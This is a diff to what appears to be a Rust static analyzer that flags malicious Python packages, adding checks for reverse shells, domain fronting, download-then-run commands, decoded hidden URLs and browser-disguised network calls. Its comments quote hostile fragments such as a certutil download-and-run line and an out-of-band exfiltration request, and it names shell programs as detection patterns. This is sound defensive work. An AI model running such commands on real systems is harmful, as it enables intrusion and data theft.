@@ -442,6 +442,12 @@ struct Analyzer<'s, 't> {
     hidden_values: HashSet<String>,
     /// Variables assigned a list of string literals, for `"".join(parts)`.
     literal_lists: HashMap<String, Vec<String>>,
+    /// A request to one host that names another in its `Host` header: domain fronting.
+    fronting: Option<u32>,
+    /// A socket connected to a host written into the code (`create_connection((HOST, 443))`).
+    socket_to_const: Option<u32>,
+    /// A shell (`cmd.exe`, `/bin/sh`, `powershell`) started with its input piped in.
+    piped_shell: Option<u32>,
     /// Identifiers written with look-alike characters (`O0O0l11lO1`), as obfuscators name
     /// things; at most a few are kept.
     confusable_names: Vec<(String, u32)>,
@@ -488,6 +494,18 @@ fn runs_what_it_fetched(lower: &str) -> bool {
     ]
     .iter()
     .any(|k| compact.contains(k))
+        || runs_a_file_it_named(&compact)
+}
+
+/// `certutil -urlcache -f http://x/a C:\\Users\\Public\\run.bat && C:\\Users\\Public\\run.bat`:
+/// a later step of the command line starts a program file that an earlier step named (the
+/// download's destination).
+fn runs_a_file_it_named(compact: &str) -> bool {
+    let steps: Vec<&str> = compact.split("&&").flat_map(|s| s.split(';')).collect();
+    steps.iter().enumerate().skip(1).take(16).any(|(i, step)| {
+        let program = step.split_whitespace().next().unwrap_or("").trim_matches(['"', '\'']);
+        is_file_name(program) && (program.contains('/') || program.contains('\\')) && steps[..i].iter().any(|s| s.contains(program))
+    })
 }
 
 /// Words in a command line that mean it downloads something.
@@ -547,6 +565,9 @@ impl<'s, 't> Analyzer<'s, 't> {
             net_clients: HashSet::new(),
             hidden_values: HashSet::new(),
             literal_lists: HashMap::new(),
+            fronting: None,
+            socket_to_const: None,
+            piped_shell: None,
             confusable_names: Vec::new(),
         }
     }
@@ -964,7 +985,10 @@ impl<'s, 't> Analyzer<'s, 't> {
         let verb = (method == "request").then(|| positional.first().and_then(|m| string_value(self.text(*m)))).flatten();
         let target = self.request_target(name, args)?;
         let url = self.resolve_text(target);
-        if out_of_band_url(&url) {
+        // A request's address without a scheme (`requests.post("x.oastify.com")`) still names
+        // the host it was meant for.
+        let bare = (!url.contains("://") && !url.is_empty()).then(|| format!("http://{url}"));
+        if out_of_band_url(&url) || bare.as_deref().is_some_and(out_of_band_url) {
             return Some(Exfil::OutOfBand);
         }
         let sends = method.split('_').any(|w| matches!(w, "post" | "put" | "patch" | "send" | "upload" | "submit"))
@@ -1177,6 +1201,48 @@ impl<'s, 't> Analyzer<'s, 't> {
         literal && !other
     }
 
+    /// The host a request's `headers={"Host": "..."}` literal names, lowercased.
+    fn host_header(&self, args: Node) -> Option<String> {
+        let mut cursor = args.walk();
+        let headers = args
+            .named_children(&mut cursor)
+            .find(|a| a.kind_str() == "keyword_argument" && a.field("name").is_some_and(|n| self.text(n) == "headers"))?;
+        let dict = headers.field("value").filter(|v| v.kind_str() == "dictionary")?;
+        let mut cursor = dict.walk();
+        let found = dict.named_children(&mut cursor).find_map(|pair| {
+            let key = string_value(self.text(pair.field("key")?))?;
+            if !key.eq_ignore_ascii_case("host") {
+                return None;
+            }
+            string_value(self.text(pair.field("value")?))
+        });
+        found.map(|h| h.split(':').next().unwrap_or("").trim_end_matches('.').to_ascii_lowercase())
+    }
+
+    /// Whether an expression names a constant holding a base64-encoded web address.
+    fn names_encoded_url(&self, expr: Node) -> bool {
+        !self.consts.is_empty()
+            && self.flat.walk(expr, |n| {
+                if n.kind_str() == "identifier" && self.consts.get(self.text(n)).is_some_and(|v| has_encoded_url(v)) {
+                    Flow::Stop
+                } else {
+                    Flow::Descend(())
+                }
+            })
+    }
+
+    /// Whether a request's address is, or is built around, a variable holding decoded data
+    /// (`url = decode(blob)` then `requests.get(url)`, `requests.get(url + key)`). What calls make
+    /// of decoded data (`json.loads(body)["next"]`) is not looked into: services hand out links.
+    fn address_is_decoded(&self, target: Node) -> bool {
+        !self.tainted.is_empty()
+            && self.flat.walk(target, |n| match n.kind_str() {
+                "call" => Flow::Skip,
+                "identifier" if self.tainted.get(self.text(n)).is_some_and(|t| t.contains(&Cap::Decode)) => Flow::Stop,
+                _ => Flow::Descend(()),
+            })
+    }
+
     /// Whether an expression uses a variable that holds text only decoding reveals.
     fn names_hidden_value(&self, expr: Node) -> bool {
         !self.hidden_values.is_empty()
@@ -1187,8 +1253,23 @@ impl<'s, 't> Analyzer<'s, 't> {
 
     /// A file that was written is then run (`open(p, "wb")` ... `subprocess.Popen([p])`).
     fn written_then_run(&self) -> Option<u32> {
+        // A variable whose value names a program (`path = f"{home}\\t.pyw"`) is run by whatever
+        // it is handed to, the launcher possibly found at run time (`shutil.which("pythonw")`).
+        let programs: Vec<&str> = self
+            .written
+            .iter()
+            .filter(|w| {
+                w.chars().all(|c| c.is_alphanumeric() || c == '_')
+                    && self.consts.get(w.as_str()).is_some_and(|v| {
+                        // f-strings too: the placeholders are folders, the end is the name.
+                        let v = v.trim().trim_start_matches(['b', 'r', 'u', 'f', 'B', 'R', 'U', 'F']);
+                        is_file_name(v.trim_matches(['"', '\'']))
+                    })
+            })
+            .map(String::as_str)
+            .collect();
         for (args, line) in &self.run_args {
-            if self.written.iter().any(|w| runs_file(args, w)) {
+            if self.written.iter().any(|w| runs_file(args, w)) || programs.iter().any(|w| names_word(args, w)) {
                 return Some(*line);
             }
         }
@@ -1330,19 +1411,40 @@ impl<'s, 't> Analyzer<'s, 't> {
                 self.hidden_values.insert(self.text(left).to_string());
             }
         }
-        // `u = base64.b64decode("aHR0cHM6Ly9...").decode()`: a URL kept out of sight.
-        if self.hidden_values.len() < 256 && has_encoded_url(self.text(right)) && self.subtree_has(right, Cap::Decode) {
+        // `u = base64.b64decode("aHR0cHM6Ly9...").decode()`: a URL kept out of sight, also
+        // when the encoded literal sits in a constant of its own.
+        if self.hidden_values.len() < 256
+            && (has_encoded_url(self.text(right)) || self.names_encoded_url(right))
+            && self.subtree_has(right, Cap::Decode)
+        {
             self.hidden_values.insert(self.text(left).to_string());
         }
         if node.kind_str() == "augmented_assignment" {
             return;
         }
         let name = self.text(left).to_string();
-        if matches!(right.kind_str(), "string" | "concatenated_string") && self.consts.len() < 1024 {
-            let value = self.text(right);
+        // `cmd = ("certutil ... " "http://...")`: the parentheses only hold a long literal.
+        let literal = if right.kind_str() == "parenthesized_expression" { right.named_child(0).unwrap_or(right) } else { right };
+        if matches!(literal.kind_str(), "string" | "concatenated_string") && self.consts.len() < 1024 {
+            let value = self.text(literal);
             if value.len() <= 16 << 10 {
-                self.consts.insert(name.clone(), value.to_string());
+                let value = if literal.kind_str() == "concatenated_string" {
+                    // `'a ' 'b'` is the one string `a b`.
+                    let mut cursor = literal.walk();
+                    let parts: String = literal.named_children(&mut cursor).map(|c| unescape(self.text(c))).collect();
+                    format!("\"{parts}\"")
+                } else {
+                    value.to_string()
+                };
+                self.consts.insert(name.clone(), value);
             }
+        } else if self.consts.len() < 1024
+            && right.kind_str() == "call"
+            && right.field("function").and_then(|f| self.dotted(f)).is_some_and(|f| matches!(f.as_str(), "os.getenv" | "os.environ.get"))
+            && let Some(default) = right.field("arguments").and_then(|a| a.named_child(1)).filter(|d| d.kind_str() == "string")
+        {
+            // `HOST = os.getenv("HOST", "203.0.113.5")`: the default is what runs.
+            self.consts.insert(name.clone(), self.text(default).to_string());
         } else if self.consts.len() < 1024
             && let Some(value) = self.joined_literals(right, 0)
         {
@@ -1573,10 +1675,31 @@ impl<'s, 't> Analyzer<'s, 't> {
         {
             self.decoded_write.get_or_insert(line);
         }
+        if self.socket_to_const.is_none()
+            && (name.ends_with("create_connection") || name.ends_with(".connect") || name.ends_with(".connect_ex"))
+            && let Some(address) = args.and_then(|a| a.named_child(0)).filter(|t| t.kind_str() == "tuple")
+            && let Some(host) = address.named_child(0)
+            && matches!(host.kind_str(), "string" | "identifier")
+        {
+            let h = self.resolve_text(host);
+            if h.contains('.') && h.parse::<std::net::IpAddr>().map_or(true, |ip| !ip.is_loopback()) && h != "localhost" {
+                self.socket_to_const = Some(line);
+            }
+        }
         if caps.contains(&Cap::Process)
             && let Some(args) = args
         {
             let lower = self.expanded(args).to_ascii_lowercase();
+            if self.piped_shell.is_none() && lower.contains("stdin=") {
+                let mut cursor = args.walk();
+                let first = args.named_children(&mut cursor).find(|a| a.kind_str() != "keyword_argument");
+                let program = first.map(|c| self.resolve_text(c).to_ascii_lowercase()).unwrap_or_default();
+                let program = program.split_whitespace().next().unwrap_or("");
+                let program = program.rsplit(['/', '\\']).next().unwrap_or(program).trim_end_matches(".exe");
+                if matches!(program, "cmd" | "powershell" | "pwsh" | "sh" | "bash" | "zsh" | "dash") {
+                    self.piped_shell = Some(line);
+                }
+            }
             // A shell command that fetches something is network use, whatever runs it.
             let shell = shell_caps(&lower);
             if shell.contains(&Cap::Network) && shell.contains(&Cap::HostInfo) {
@@ -1655,9 +1778,21 @@ impl<'s, 't> Analyzer<'s, 't> {
             // legitimately send data they decoded earlier (keys, tokens).
             if self.hidden_endpoint.is_none()
                 && let Some(target) = self.request_target(&name, args)
-                && (has_direct_decoder(self, target) || self.names_hidden_value(target))
+                && (has_direct_decoder(self, target)
+                    || self.names_hidden_value(target)
+                    || (is_http_request(&name, self.is_client_call(func))
+                        && !caps.contains(&Cap::Process)
+                        && self.address_is_decoded(target)))
             {
                 self.hidden_endpoint = Some(line);
+            }
+            if self.fronting.is_none()
+                && let Some(front) = self.host_header(args)
+                && let Some(target) = self.request_target(&name, args)
+                && let Some(host) = url_hosts(&self.resolve_text(target)).next()
+                && fronted(&host, &front)
+            {
+                self.fronting = Some(line);
             }
             if self.hostinfo_flow.is_none() && self.subtree_has(args, Cap::HostInfo) {
                 self.hostinfo_flow = Some(line);
@@ -2059,6 +2194,37 @@ fn has_encoded_url(t: &str) -> bool {
     ["\"aHR0cHM6Ly", "'aHR0cHM6Ly", "\"aHR0cDovL", "'aHR0cDovL"].iter().any(|k| t.contains(k))
 }
 
+/// A request sent to `url_host` that asks, in its `Host` header, for a site under another
+/// registered name: the CDN routes by the header, so whoever watches the connection sees one
+/// site and the request reaches another (domain fronting). Addresses and local names (testing a
+/// virtual host on 127.0.0.1) are not this.
+fn fronted(url_host: &str, header_host: &str) -> bool {
+    let domain =
+        |h: &str| h.contains('.') && h.parse::<std::net::IpAddr>().is_err() && !h.ends_with(".localhost") && !h.ends_with(".local");
+    let site = |h: &str| {
+        let labels: Vec<&str> = h.rsplit('.').take(2).collect();
+        labels.join(".")
+    };
+    domain(url_host) && domain(header_host) && site(url_host) != site(header_host)
+}
+
+/// A call that makes an HTTP request (not a socket, an SSH channel or a command line): the
+/// functions of the HTTP clients and methods of their session objects.
+fn is_http_request(name: &str, client_call: bool) -> bool {
+    let last = name.rsplit('.').next().unwrap_or(name).to_ascii_lowercase();
+    let http_lib = ["requests.", "httpx.", "urllib.", "urllib2.", "urllib3.", "aiohttp."].iter().any(|p| name.starts_with(p));
+    (http_lib || client_call)
+        && matches!(last.as_str(), "get" | "post" | "put" | "patch" | "delete" | "head" | "request" | "urlopen" | "send" | "urlretrieve")
+}
+
+/// Whether `word` occurs in `text` as a whole identifier.
+fn names_word(text: &str, word: &str) -> bool {
+    let ident = |c: char| c.is_alphanumeric() || c == '_';
+    text.match_indices(word)
+        .take(32)
+        .any(|(i, _)| !text[..i].chars().next_back().is_some_and(ident) && !text[i + word.len()..].chars().next().is_some_and(ident))
+}
+
 /// A file name with an extension a program can be (`stage2.py`, `update.exe`), as opposed to a
 /// folder or a word.
 fn is_file_name(v: &str) -> bool {
@@ -2287,9 +2453,9 @@ fn is_plain_literal(args: &str) -> bool {
 }
 
 fn is_write_open(call: &str) -> bool {
-    ["'w'", "\"w\"", "'wb'", "\"wb\"", "'a'", "\"a\"", "'ab'", "\"ab\"", "'w+'", "\"w+\"", "'wb+'", "\"wb+\""]
+    ["w", "wb", "a", "ab", "w+", "wb+", "w+b", "a+", "ab+", "a+b", "x", "xb", "r+", "rb+", "r+b"]
         .iter()
-        .any(|m| call.contains(m))
+        .any(|m| call.contains(&format!("'{m}'")) || call.contains(&format!("\"{m}\"")))
 }
 
 /// The capabilities of a call to a fully resolved name.
@@ -2434,7 +2600,8 @@ pub fn classify(name: &str) -> Vec<Cap> {
                 last,
                 "decrypt" | "decompress" | "b64decode" | "b32decode" | "b85decode" | "a85decode" | "unhexlify" | "fromhex" | "decodebytes"
             ));
-    if decode {
+    // `base64.b64encode(x).decode("ascii")` turns encoded bytes into text: encoding.
+    if decode && !n.contains("encode()") {
         caps.push(Cap::Decode);
     }
     caps
@@ -2503,13 +2670,24 @@ pub(crate) fn behaviour(
                 "collects host or user information (host name, user, working directory, environment) and sends it over the network while the package installs or is imported{via}"
             ),
         )),
-        (Some(n), None, false) => Some(at(
-            &n,
-            format!("{tag}-network"),
-            // setup.py has no business on the network; import-time update checks exist.
-            if install { Severity::High } else { Severity::Medium },
-            format!("uses the network while the package installs or is imported{via}"),
-        )),
+        (Some(n), None, false) => {
+            // Posing as a browser is for getting past whoever watches; an update check says
+            // who it is.
+            let disguised = n.excerpt.contains("Mozilla/5.0");
+            Some(at(
+                &n,
+                format!("{tag}-network"),
+                // setup.py has no business on the network; import-time update checks exist.
+                if install || disguised { Severity::High } else { Severity::Medium },
+                if disguised {
+                    format!(
+                        "uses the network while the package installs or is imported, posing as a web browser (User-Agent Mozilla/5.0){via}"
+                    )
+                } else {
+                    format!("uses the network while the package installs or is imported{via}")
+                },
+            ))
+        }
         (None, Some(r), _) if install && r.process => Some(at(
             &r,
             "py-install-process".to_string(),
@@ -2593,7 +2771,7 @@ fn combine(path: &str, ctx: Context, a: Analyzer, facts: &mut Facts) {
     // Findings tied to one line: (where, rule, severity, message).
     // Several names in look-alike characters: obfuscator output.
     let confusable = (a.confusable_names.len() >= 4).then(|| a.confusable_names[0].1);
-    let at_line: [(Option<u32>, &str, Severity, String); 14] = [
+    let at_line: [(Option<u32>, &str, Severity, String); 16] = [
         // Shapes that are malicious wherever they sit: what they do has no honest reading.
         (
             dropped,
@@ -2667,6 +2845,18 @@ fn combine(path: &str, ctx: Context, a: Analyzer, facts: &mut Facts) {
             if ctx == Context::Install { "py-install-exfil-hostinfo" } else { "py-import-exfil-hostinfo" },
             Severity::High,
             "runs a command that reads out who and where it runs (whoami, hostname) and sends it over the network, while the package installs or is imported".into(),
+        ),
+        (
+            a.piped_shell.filter(|_| a.socket_to_const.is_some()),
+            "py-reverse-shell",
+            Severity::Critical,
+            "connects a socket to a host written into the code and starts a shell whose input is piped: a reverse shell that takes commands from that host".into(),
+        ),
+        (
+            a.fronting,
+            "py-domain-fronting",
+            eager_or(Severity::High),
+            "sends a request to one site with a Host header naming another (domain fronting): the network sees the first, the request reaches the second".into(),
         ),
         (
             confusable,
